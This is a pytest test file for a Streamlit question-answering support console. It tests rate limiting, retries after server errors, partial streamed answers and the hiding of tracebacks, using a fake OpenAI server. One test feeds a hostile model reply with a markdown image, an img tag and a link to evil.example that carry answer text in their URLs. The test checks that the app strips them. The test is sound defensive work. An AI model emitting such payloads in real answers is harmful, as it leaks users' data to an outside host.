"""The Ask page under faults and hostile output: AppTest of the real app, chat answers from the
fake OpenAI server (embeddings local, so every request the fake sees is a chat call)."""

from __future__ import annotations

import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
import streamlit as st
from streamlit.testing.v1 import AppTest

from rag.console import open_console
from rag.ingest.pipeline import ingest_file
from rag.settings import load_settings
from rag.text import escape_markdown
from tests.fake_openai import FakeOpenAI, serve
from tests.signin import sign_in_as

fake = pytest.fixture(serve, name="fake")

REPO = Path(__file__).resolve().parent.parent
QUESTION = "How many days do customers have to return opened headphones?"
POLICY = (
    b"Customers have 14 days to return opened headphones. The original box and all accessories "
    b"must be included. Our return policy is at https://help.example.com/returns for details."
)

StartApp = Callable[..., AppTest]


@pytest.fixture
def start_app(
    fake: FakeOpenAI, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[StartApp]:
    def start(**extra: str) -> AppTest:
        env = {
            "DATABASE_URL": database_url,
            "DATA_DIR": str(tmp_path / "data"),
            "OPENAI_API_KEY": "sk-test",
            "OPENAI_BASE_URL": fake.base_url,
            "EMBEDDING_PROVIDER": "local",
            "ANSWER_MODE": "openai",
            **extra,
        }
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        console = open_console(load_settings())
        ingest_file(console, "returns.txt", POLICY, user="admin")
        console.engine.dispose()
        st.cache_resource.clear()
        at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
        sign_in_as(at, database_url, "agent")  # a support agent, signed in as in production
        return run(at)

    yield start
    st.cache_resource.clear()


def run(at: AppTest) -> AppTest:
    at = at.run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def ask(at: AppTest, question: str = QUESTION) -> AppTest:
    return run(at.chat_input[0].set_value(question))


def assistant_markdown(at: AppTest) -> list[str]:
    [*_, last] = [m for m in at.chat_message if m.name == "assistant"]
    return [c.value for c in last.children.values() if c.type == "markdown"]


def rows(database_url: str, sql: str) -> list[tuple[object, ...]]:
    engine = sa.create_engine(database_url)
    try:
        with engine.connect() as conn:
            return [tuple(r) for r in conn.execute(sa.text(sql))]
    finally:
        engine.dispose()


def test_a_hostile_answer_renders_no_image_html_or_unknown_link(
    start_app: StartApp, fake: FakeOpenAI
) -> None:
    at = start_app()
    fake.queue_reply(
        "Customers have 14 days [1]. ![status](https://evil.example/p.png?d=14-days) "
        '<img src="https://evil.example/i.png"> [details](https://evil.example/?q=refunds) '
        "[policy](https://help.example.com/returns)"
    )
    at = ask(at)
    [answer, *_] = assistant_markdown(at)
    assert "Customers have 14 days [1]." in answer
    assert "![" not in answer and "<img" not in answer and "](https://evil" not in answer
    assert "[policy](https://help.example.com/returns)" in answer  # a link the source itself gives
    assert len(fake.requests) == 1


def test_over_the_limit_a_warning_and_no_api_call(start_app: StartApp, fake: FakeOpenAI) -> None:
    at = start_app(MAX_QUESTIONS_PER_MINUTE="1")
    at = ask(at)
    assert len(fake.requests) == 1 and not at.warning
    at = ask(at, "And for unopened headphones?")
    assert len(fake.requests) == 1
    assert [w.value for w in at.warning] == [
        escape_markdown(
            "You have asked 1 question in the last minute, the most allowed. Wait a minute, then ask again."
        )
    ]


def test_a_failed_generation_shows_the_passages_and_logs_the_code(
    start_app: StartApp, fake: FakeOpenAI, database_url: str
) -> None:
    at = start_app()
    fake.fail_next(500, times=3)
    at = ask(at)
    assert len(fake.requests) == 3  # the first try and two retries
    assert [w.value for w in at.warning] == [
        "The answer could not be completed: "
        + escape_markdown("OpenAI had a server error; try again in a moment.")
        + " The passages found are below."
    ]
    shown = assistant_markdown(at)
    assert "**Sources**" in shown and any(m.startswith("**[1] returns**") for m in shown)
    assert rows(database_url, "SELECT error_code, answered FROM answers") == [("server_error", False)]
    assert rows(database_url, "SELECT ok, error_code FROM model_calls WHERE purpose = 'chat'") == [
        (False, "server_error")
    ]


def test_a_cut_stream_keeps_the_partial_answer_marked_incomplete(
    start_app: StartApp, fake: FakeOpenAI, database_url: str
) -> None:
    at = start_app()
    fake.queue_reply("Customers have 14 days to return opened headphones [1].")
    fake.cut_stream_after(3)
    at = ask(at)
    assert assistant_markdown(at)[0] == "Customers have 14"
    assert [w.value for w in at.warning] == [
        "This answer is incomplete: "
        + escape_markdown("The connection to OpenAI was lost while the answer was streaming; try again.")
        + " The passages found are below."
    ]
    assert rows(database_url, "SELECT answer, incomplete, error_code FROM answers") == [
        ("Customers have 14", True, "connection")
    ]


def test_tracebacks_never_reach_the_browser() -> None:
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] in ("none", False)
